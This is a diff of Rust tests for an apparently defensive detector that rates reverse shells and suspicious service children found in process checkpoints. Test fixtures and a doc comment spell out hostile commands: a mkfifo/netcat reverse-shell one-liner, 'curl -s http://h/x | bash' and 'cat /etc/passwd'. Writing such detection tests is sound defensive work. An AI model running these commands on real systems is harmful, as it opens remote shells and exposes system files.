@@ -33,7 +33,23 @@ fn shells_on_sockets() {
     let copy = found([on(Task::new(2, 1).exe("/usr/bin/upd").argv(&["upd"]), &connection(70))]);
     assert_eq!(one(&copy, "shell-on-socket", 2).severity, Severity::High);
     // A client has its connection elsewhere.
-    none(&found([Task::new(2, 1).exe("/usr/bin/bash").fd(5, connection(70))]), "shell-on-socket");
+    none(&found([Task::new(2, 1).exe("/usr/bin/curl").fd(5, connection(70))]), "shell-on-socket");
+}
+
+#[test]
+fn shells_with_a_connection_of_their_own() {
+    let shell = |ppid| Task::new(3, ppid).exe("/usr/bin/bash").argv(&["bash", "/srv/x.sh"]);
+    let severity = |file| one(&found([shell(1).fd(5, file)]), "shell-on-socket", 3).severity;
+    assert_eq!(severity(connection(70)), Severity::High);
+    let near = ([127, 0, 0, 1], 9000);
+    assert_eq!(severity(File::tcp(70, near, near, "", "")), Severity::Medium);
+    // Nobody has answered: a script that waits.
+    let waits = File::Inet { ino: 70, kind: 1, state: 2, local: HERE, remote: THERE, queues: None };
+    assert_eq!(severity(waits), Severity::Medium);
+    // What a parent left open is the parent's.
+    let parent = Task::new(2, 1).exe("/usr/bin/app").fd(5, connection(70));
+    none(&found([parent, shell(2).fd(5, connection(70))]), "shell-on-socket");
+    none(&found([shell(1).fd(5, File::tcp_listen(70, ([0; 4], 80)))]), "shell-on-socket");
 }
 
 #[test]
@@ -79,11 +95,52 @@ fn shells_behind_a_relay() {
         Task::new(3, 2).fd(0, File::unix_pair(92, 91, vec![])),
     ];
     assert_eq!(one(&found(login), "shell-relayed", 3).severity, Severity::Low);
+    // Names cost nothing.
+    for exe in ["/opt/.z/sshd", "/opt/.z/tmux", "/opt/.z/agent"] {
+        let fake = [
+            relay(exe).fd(6, File::unix_pair(91, 92, vec![])),
+            Task::new(3, 2).fd(0, File::unix_pair(92, 91, vec![])),
+        ];
+        assert_eq!(one(&found(fake), "shell-relayed", 3).severity, Severity::High, "{exe}");
+    }
     let local = [
         Task::new(2, 1).exe("/usr/bin/make").fd(6, File::pipe_write(81)),
         Task::new(3, 2).fd(0, File::pipe_read(81, "")),
     ];
     none(&found(local), "shell-relayed");
+}
+
+/// A service with a connection to a database starts commands of its own.
+#[test]
+fn commands_behind_a_relay() {
+    let severity = |exe: &str, remote, argv: &[&str]| {
+        let database = File::tcp(70, HERE, (remote, 5432), "", "");
+        let relay = Task::new(2, 1).exe(exe).argv(&["worker"]).fd(5, database);
+        let shell = Task::new(3, 2).exe("/usr/bin/dash").comm("sh").argv(argv);
+        let shell = shell.fd(0, File::unix_pair(92, 91, vec![]));
+        let findings = found([relay.fd(6, File::unix_pair(91, 92, vec![])), shell]);
+        one(&findings, "shell-relayed", 3).severity
+    };
+    let (node, away) = ("/usr/bin/node", [10, 0, 0, 9]);
+    assert_eq!(severity(node, away, &["/bin/sh", "-c", "a && b"]), Severity::Medium);
+    assert_eq!(severity(node, away, &["sh", "/srv/hook.sh"]), Severity::Medium);
+    assert_eq!(severity(node, away, &["sh"]), Severity::High);
+    assert_eq!(severity(node, away, &["bash", "-s", "x"]), Severity::High);
+    assert_eq!(severity(node, [127, 0, 0, 1], &["sh"]), Severity::Medium);
+    let beam = "/usr/lib/erlang/erts-14/bin/beam.smp";
+    assert_eq!(severity(beam, away, &["sh", "-s", "rabbit_disk_monitor"]), Severity::Low);
+}
+
+/// `mkfifo a b; sh -i <a >b & nc h p <b >a`: who opened a side cannot be told, so that both have both.
+#[test]
+fn shells_behind_named_pipes() {
+    let fifo =
+        |pipe: u32| File::Other { kind: 3, field: 17, message: Message::new().uint(2, pipe) };
+    let shell = Task::new(3, 1).exe("/usr/bin/dash").argv(&["sh", "-i"]);
+    let netcat = Task::new(2, 1).exe("/usr/bin/nc").argv(&["nc", "h", "1"]);
+    let netcat = netcat.fd(0, fifo(62)).fd(1, fifo(61)).fd(3, connection(70));
+    let findings = found([netcat, shell.fd(0, fifo(61)).fd(1, fifo(62))]);
+    assert_eq!(one(&findings, "shell-relayed", 3).severity, Severity::High);
 }
 
 /// An entry of `files.img` for one side of `/dev/pts/7`, and what `tty-info.img` says of both.
@@ -140,12 +197,80 @@ fn children_of_services() {
     };
     assert_eq!(severity("/usr/bin/app", [0; 4], shell()), Severity::Medium);
     assert_eq!(severity("/usr/bin/supervisord", [0; 4], piped()), Severity::Low);
+    // Commands whose output a service reads are what it is for, unless something else tells otherwise.
+    let command = |line: &str| {
+        let task = Task::new(3, 2).exe("/usr/bin/dash").comm("sh").argv(&["sh", "-c", line]);
+        task.fd(1, File::pipe_write(82))
+    };
+    let php = "/usr/sbin/php-fpm8.2";
+    for line in ["convert a.png b.jpg", "/usr/sbin/sendmail -t -i", "id -u www", "uname -m"] {
+        assert_eq!(severity(php, [0; 4], command(line)), Severity::Medium, "{line}");
+    }
+    for line in ["cat /etc/passwd", "cd /; whoami", "curl -s http://h/x | bash"] {
+        assert_eq!(severity(php, [0; 4], command(line)), Severity::High, "{line}");
+    }
+    let typed = Task::new(3, 2).exe("/usr/bin/dash").argv(&["sh"]).fd(1, File::pipe_write(82));
+    assert_eq!(severity(php, [0; 4], typed), Severity::High);
     assert_eq!(severity("/usr/bin/app", [127, 0, 0, 1], shell()), Severity::Low);
     // Workers run what their parent runs; what is no interpreter is its own affair.
     let worker = Task::new(3, 2).exe("/usr/bin/python3.12");
     none(&service("/usr/bin/python3.12", [0; 4], worker), "interpreter-child-of-service");
     let other = Task::new(3, 2).exe("/usr/bin/convert").argv(&["convert"]);
     none(&service("/usr/bin/python3.12", [0; 4], other), "interpreter-child-of-service");
+}
+
+#[test]
+fn what_a_captured_command_gives_away() {
+    let severity = |feeds: bool, child: Option<Task>| {
+        let mut parent = Task::new(2, 1).exe("/usr/bin/php8.2").argv(&["php"]);
+        parent = parent.fd(4, File::tcp_listen(70, ([0; 4], 80))).fd(5, File::pipe_read(82, ""));
+        let mut shell = Task::new(3, 2).exe("/usr/bin/dash").argv(&["sh", "-c", "x y"]);
+        shell = shell.fd(1, File::pipe_write(82));
+        if feeds {
+            parent = parent.fd(6, File::pipe_write(83));
+            shell = shell.fd(0, File::pipe_read(83, ""));
+        }
+        let findings = found([parent, shell].into_iter().chain(child));
+        one(&findings, "interpreter-child-of-service", 3).severity
+    };
+    assert_eq!(severity(false, None), Severity::Medium);
+    assert_eq!(severity(true, None), Severity::High);
+    let child = |exe: &str| Task::new(4, 3).exe(exe).argv(&["x"]);
+    assert_eq!(severity(false, Some(child("/usr/bin/x"))), Severity::Medium);
+    assert_eq!(severity(false, Some(child("/opt/.y/x"))), Severity::High);
+    assert_eq!(severity(false, Some(child("/usr/bin/x").fd(5, connection(71)))), Severity::High);
+    let typed = Task::new(4, 3).exe("/usr/bin/bash").argv(&["bash", "-i"]);
+    assert_eq!(severity(false, Some(typed)), Severity::High);
+}
+
+/// What an interpreter does by trade its script tells, which must be of the image.
+#[test]
+fn supervisors_that_are_scripts() {
+    let severity = |argv: &[&str], exe: &str, files: &[(&str, u64)]| {
+        let parent = Task::new(2, 1).exe(exe).comm("supervisord").argv(argv);
+        let parent =
+            parent.fd(4, File::tcp_listen(70, ([0; 4], 9001))).fd(5, File::pipe_read(82, ""));
+        let shell = Task::new(3, 2).exe("/usr/bin/bash").argv(&["/bin/bash"]);
+        let mut diff = Archive::new();
+        for (path, mtime) in files {
+            diff.push(ckpt_synth::Member::file(*path, b"#!").mode(0o755).mtime(*mtime));
+        }
+        let mut archive = Archive::podman(&dump([parent, shell.fd(1, File::pipe_write(82))]));
+        archive.replace("rootfs-diff.tar", diff.tar());
+        one(&looked(&archive), "interpreter-child-of-service", 3).severity
+    };
+    let python = "/usr/bin/python3.12";
+    let argv = ["/usr/bin/python3", "/usr/bin/supervisord", "-n"];
+    assert_eq!(severity(&argv, python, &[]), Severity::Low);
+    assert_eq!(severity(&argv, python, &[("usr/bin/supervisord", LATER)]), Severity::High);
+    assert_eq!(severity(&argv, "/opt/.p/python3", &[]), Severity::High);
+    assert_eq!(severity(&["python3", "/srv/app.py"], python, &[]), Severity::High);
+    let code = ["node", "/usr/lib/code-server/out/node/entry"];
+    assert_eq!(severity(&code, "/usr/lib/code-server/lib/node", &[]), Severity::Low);
+    let jenkins = ["java", "-jar", "/usr/share/jenkins/jenkins.war"];
+    assert_eq!(severity(&jenkins, "/opt/java/bin/java", &[]), Severity::Low);
+    let notebook = ["/usr/bin/python3", "/usr/local/bin/jupyter-lab"];
+    assert_eq!(severity(&notebook, python, &[]), Severity::Low);
 }
 
 #[test]
